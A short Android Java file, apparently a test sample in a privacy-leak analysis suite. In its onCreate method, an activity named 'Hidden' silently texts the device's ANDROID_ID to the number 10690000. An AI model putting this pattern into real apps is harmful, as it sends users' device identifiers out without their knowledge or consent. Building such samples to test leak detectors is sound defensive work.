package cn.privlens.suite.declared_activity;

import android.app.Activity;
import android.os.Bundle;
import android.provider.Settings;
import android.telephony.SmsManager;

public class Hidden extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        SmsManager.getDefault().sendTextMessage("10690000", null, Settings.Secure.getString(getContentResolver(), Settings.Secure.ANDROID_ID), null, null);
    }
}
